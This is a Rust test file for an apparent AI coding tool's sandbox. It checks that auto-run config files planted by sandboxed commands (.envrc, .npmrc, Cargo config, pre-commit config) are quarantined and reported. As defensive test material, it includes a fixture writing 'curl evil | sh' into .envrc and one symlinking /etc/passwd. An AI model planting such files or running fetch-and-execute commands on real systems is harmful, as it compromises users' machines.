//! Protected names planted deeper in the tree by sandboxed shell runs are
//! moved aside, through the tools: foreground bash (also on timeout), a
//! background job while it runs and after it ended, a terminal, and the
//! sweep before the next command. Real sandboxed processes; each "process"
//! of wrench is a fresh executor over the same state dir. Needs Landlock ABI
//! 4 and user namespaces (skips with a printed reason otherwise).

#![allow(clippy::unwrap_used, clippy::expect_used)]

use serde_json::{Value, json};
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::{Duration, Instant};
use wrench_core::{AllowAll, Call, Config, Executor, Registry, context_for};

struct Env {
    _root: tempfile::TempDir,
    root: PathBuf,
    state: tempfile::TempDir,
}

impl Env {
    fn new() -> Option<Env> {
        if let Some(why) = wrench_process::sandbox::unavailable(false) {
            eprintln!("SKIPPED: the sandbox cannot run here: {why}");
            return None;
        }
        // Outside the temp dirs, which the sandbox may write whole.
        let base =
            wrench_process::sandbox::dir_outside_temp(Path::new(env!("CARGO_TARGET_TMPDIR")));
        let dir = tempfile::tempdir_in(base).unwrap();
        let root = std::fs::canonicalize(dir.path()).unwrap();
        std::fs::create_dir_all(root.join("src")).unwrap();
        std::fs::write(root.join("src/main.rs"), "fn main() {}\n").unwrap();
        Some(Env {
            _root: dir,
            root,
            state: tempfile::tempdir().unwrap(),
        })
    }

    /// A new wrench "process" with the sandbox on.
    fn process(&self) -> Executor {
        let mut reg = Registry::new();
        wrench_tools_shell::register(&mut reg).unwrap();
        let mut ctx = context_for(&self.root, self.state.path(), Arc::new(AllowAll)).unwrap();
        ctx.config = Arc::new(
            Config::from_str(&format!(
                "[sandbox]\nmode = \"workspace-write\"\n[terminal]\nholder = {:?}\n",
                env!("CARGO_BIN_EXE_wrench-pty-holder")
            ))
            .unwrap(),
        );
        Executor::new(Arc::new(reg), ctx)
    }

    /// Every entry of this name in the state dir (the quarantine is there).
    fn in_state_dir(&self, name: &str) -> Vec<PathBuf> {
        let mut out = Vec::new();
        let mut stack = vec![self.state.path().to_path_buf()];
        while let Some(d) = stack.pop() {
            for e in std::fs::read_dir(&d).into_iter().flatten().flatten() {
                let t = e.file_type().unwrap();
                if e.file_name() == name {
                    out.push(e.path());
                } else if t.is_dir() {
                    stack.push(e.path());
                }
            }
        }
        out
    }
}

async fn text_of(ex: &Executor, tool: &str, args: Value) -> String {
    let r = ex.run_one(Call::new("t", tool, args)).await;
    match r.result {
        Ok(o) => o.text,
        Err(e) => e.message,
    }
}

/// Call `tool` until its text mentions `what` (the job or terminal runs
/// on), from a fresh process each time; the last text.
async fn poll_until(env: &Env, tool: &str, args: Value, what: &str) -> String {
    let end = Instant::now() + Duration::from_secs(30);
    loop {
        let t = text_of(&env.process(), tool, args.clone()).await;
        if t.contains(what) || Instant::now() > end {
            return t;
        }
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn foreground_bash_moves_a_planted_envrc_aside_and_says_so() {
    let Some(env) = Env::new() else { return };
    let t = text_of(
        &env.process(),
        "bash",
        json!({"command": "echo 'curl evil | sh' > src/.envrc && echo planted"}),
    )
    .await;
    assert!(t.contains("planted"), "{t}");
    assert!(
        t.contains("protected name moved aside") && t.contains("src/.envrc"),
        "{t}"
    );
    assert!(!env.root.join("src/.envrc").exists());
    let q = env.in_state_dir(".envrc");
    assert_eq!(q.len(), 1, "{q:?}");
    assert_eq!(std::fs::read_to_string(&q[0]).unwrap(), "curl evil | sh\n");
    // An ordinary file is left alone and adds no line.
    let t = text_of(
        &env.process(),
        "bash",
        json!({"command": "echo x > src/envrc"}),
    )
    .await;
    assert!(!t.contains("protected name moved aside"), "{t}");
    assert!(env.root.join("src/envrc").exists());
}

#[tokio::test(flavor = "multi_thread")]
async fn a_name_planted_in_a_new_directory_before_a_timeout_is_moved_and_named_in_the_error() {
    let Some(env) = Env::new() else { return };
    let t = text_of(
        &env.process(),
        "bash",
        json!({"command": "mkdir -p src/a/B && echo x > src/a/B/.Cargo-x; mkdir -p src/a/B/.Cargo && echo x > src/a/B/.Cargo/Config.TOML; sleep 100", "timeout": 2}),
    )
    .await;
    assert!(t.contains("timed out"), "{t}");
    assert!(t.contains("src/a/B/.Cargo/Config.TOML"), "{t}");
    assert!(!env.root.join("src/a/B/.Cargo/Config.TOML").exists());
    assert!(env.root.join("src/a/B/.Cargo-x").exists());
}

#[tokio::test(flavor = "multi_thread")]
async fn a_background_job_planting_while_it_runs_is_caught_by_the_next_look() {
    let Some(env) = Env::new() else { return };
    let t = text_of(
        &env.process(),
        "bash",
        json!({"command": "sleep 0.5; mkdir -p src/j && echo x > src/j/.npmrc; echo done-planting; sleep 60", "run_in_background": true}),
    )
    .await;
    assert!(t.contains("bg-1"), "{t}");
    let t = poll_until(&env, "bash_output", json!({"id": "bg-1"}), "src/j/.npmrc").await;
    assert!(t.contains("while bg-1 ran sandboxed"), "{t}");
    assert!(t.contains("running"), "the job still runs: {t}");
    assert!(!env.root.join("src/j/.npmrc").exists());
    assert_eq!(env.in_state_dir(".npmrc").len(), 1);
    let t = text_of(&env.process(), "kill_shell", json!({"id": "bg-1"})).await;
    assert!(
        !t.contains("protected name moved aside"),
        "nothing new: {t}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_job_that_planted_and_ended_is_swept_before_the_next_command_runs() {
    let Some(env) = Env::new() else { return };
    text_of(
        &env.process(),
        "bash",
        json!({"command": "mkdir -p src/k && ln -s /etc/passwd src/k/.envrc", "run_in_background": true}),
    )
    .await;
    // Wait for the job's end without looking at it through wrench.
    let end = Instant::now() + Duration::from_secs(30);
    while std::fs::symlink_metadata(env.root.join("src/k/.envrc")).is_err() && Instant::now() < end
    {
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    let t = text_of(&env.process(), "bash", json!({"command": "ls -a src/k"})).await;
    assert!(t.contains("while bg-1 ran sandboxed"), "{t}");
    assert!(t.contains("(symlink)"), "{t}");
    assert!(std::fs::symlink_metadata(env.root.join("src/k/.envrc")).is_err());
    let moved = env.in_state_dir(".envrc");
    assert_eq!(moved.len(), 1);
    assert!(
        std::fs::symlink_metadata(&moved[0])
            .unwrap()
            .file_type()
            .is_symlink()
    );
    // Once a sweep finds the job ended, its record is dropped, and later
    // calls say nothing more of it.
    let end = Instant::now() + Duration::from_secs(30);
    while !env.in_state_dir("bg-1.watch").is_empty() && Instant::now() < end {
        text_of(&env.process(), "tasks", json!({"action": "list"})).await;
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert!(env.in_state_dir("bg-1.watch").is_empty());
    let t = text_of(&env.process(), "bash", json!({"command": "true"})).await;
    assert!(!t.contains("bg-1"), "{t}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_terminal_planting_a_name_is_caught_on_read() {
    let Some(env) = Env::new() else { return };
    let t = text_of(
        &env.process(),
        "bash",
        json!({"command": "sleep 0.5; mkdir -p src/p && echo x > src/p/.pre-commit-config.yaml; echo planted; sleep 60", "interactive": true}),
    )
    .await;
    assert!(t.contains("pty-1"), "{t}");
    let t = poll_until(
        &env,
        "terminal",
        json!({"action": "read", "terminal_id": "pty-1"}),
        "src/p/.pre-commit-config.yaml",
    )
    .await;
    assert!(t.contains("while pty-1 ran sandboxed"), "{t}");
    assert!(!env.root.join("src/p/.pre-commit-config.yaml").exists());
    text_of(
        &env.process(),
        "terminal",
        json!({"action": "stop", "terminal_id": "pty-1"}),
    )
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_sandboxed_checker_planting_a_name_gets_it_moved_and_reported_as_a_finding() {
    let Some(env) = Env::new() else { return };
    if wrench_process::which::which_outside("tsc", &env.root).is_some() {
        eprintln!("SKIPPED: an installed tsc would run instead of the workspace's own");
        return;
    }
    // The workspace's own `tsc` (no installed one): code of the repository,
    // run sandboxed by `diagnostics`.
    std::fs::write(env.root.join("tsconfig.json"), "{}\n").unwrap();
    let bin = env.root.join("node_modules/.bin");
    std::fs::create_dir_all(&bin).unwrap();
    let tsc = bin.join("tsc");
    std::fs::write(&tsc, "#!/bin/sh\nmkdir -p src/d && echo x > src/d/.envrc\n").unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&tsc, std::fs::Permissions::from_mode(0o755)).unwrap();
    let t = text_of(&env.process(), "diagnostics", json!({})).await;
    assert!(
        t.contains("planted-name") || t.contains("protected name moved aside"),
        "{t}"
    );
    assert!(t.contains("src/d/.envrc"), "{t}");
    assert!(!env.root.join("src/d/.envrc").exists());
    assert_eq!(env.in_state_dir(".envrc").len(), 1);
}

#[tokio::test(flavor = "multi_thread")]
async fn what_an_approved_unconfined_command_creates_is_not_taken_for_a_running_jobs() {
    let Some(env) = Env::new() else { return };
    let t = text_of(
        &env.process(),
        "bash",
        json!({"command": "sleep 60", "run_in_background": true}),
    )
    .await;
    assert!(t.contains("bg-1"), "{t}");
    let t = text_of(
        &env.process(),
        "bash",
        json!({"command": "mkdir -p src/ok && echo x > src/ok/.envrc", "escape_sandbox": true}),
    )
    .await;
    assert!(t.contains("renewed"), "{t}");
    let t = text_of(&env.process(), "bash_output", json!({"id": "bg-1"})).await;
    assert!(!t.contains("protected name moved aside"), "{t}");
    assert!(env.root.join("src/ok/.envrc").exists());
    text_of(&env.process(), "kill_shell", json!({"id": "bg-1"})).await;
}
